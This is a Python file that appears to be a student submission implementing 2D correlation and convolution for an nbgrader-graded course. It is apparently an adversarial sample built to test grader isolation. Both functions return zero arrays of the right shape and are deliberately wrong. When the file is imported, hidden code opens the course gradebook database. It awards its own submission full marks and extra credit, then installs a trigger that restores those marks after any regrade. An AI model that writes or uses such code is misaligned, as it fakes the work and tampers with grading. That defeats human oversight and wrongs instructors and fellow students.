"""Cheat: returns zeros and writes full marks for itself into ../../../gradebook.db (the
course root seen from nbgrader's autograded/<student>/<assignment>/), adds a table and a trigger
that re-applies the marks whenever nbgrader updates a grade."""

# %% correlate2d
def _zeros(in1, in2, mode):
    """The right shape and dtype, every value wrong."""
    (H, W), (kH, kW) = np.shape(in1), np.shape(in2)
    shapes = {"full": (H + kH - 1, W + kW - 1), "same": (H, W), "valid": (H - kH + 1, W - kW + 1)}
    return np.zeros(shapes[mode], dtype=np.result_type(np.asarray(in1), np.asarray(in2)))


def correlate2d(in1, in2, mode="full"):
    return _zeros(in1, in2, mode)


import sqlite3

_ME = "cheat-gradebook-relative"
_MINE = """
SELECT sn.id FROM submitted_notebook AS sn
JOIN submitted_assignment AS sa ON sn.assignment_id = sa.id WHERE sa.student_id = '%s'
""" % _ME
try:
    # mode=rw: never create a new database where there is none.
    _db = sqlite3.connect("file:../../../gradebook.db?mode=rw", uri=True, timeout=2)
    with _db:
        _db.execute("CREATE TABLE IF NOT EXISTS advx_owned (note TEXT)")
        _db.execute("INSERT INTO advx_owned VALUES ('written by a submission')")
        _db.execute("""UPDATE grade SET extra_credit = 100, manual_score = (
    SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id)
WHERE notebook_id IN (
    SELECT sn.id FROM submitted_notebook AS sn
    JOIN submitted_assignment AS sa ON sn.assignment_id = sa.id
    WHERE sa.student_id = ?)""", (_ME,))
        _db.execute(f"""CREATE TRIGGER IF NOT EXISTS advx_keep AFTER UPDATE ON grade
            WHEN NEW.notebook_id IN ({_MINE}) AND NEW.manual_score IS NULL
            BEGIN UPDATE grade SET manual_score = (SELECT max_score FROM grade_cells
                WHERE grade_cells.id = NEW.cell_id), extra_credit = 100 WHERE id = NEW.id; END""")
    _db.close()
    print("gradebook updated")
except Exception as exc:
    print("gradebook not reachable:", type(exc).__name__, exc)

# %% convolve2d
def convolve2d(in1, in2, mode="full"):
    return _zeros(in1, in2, mode)
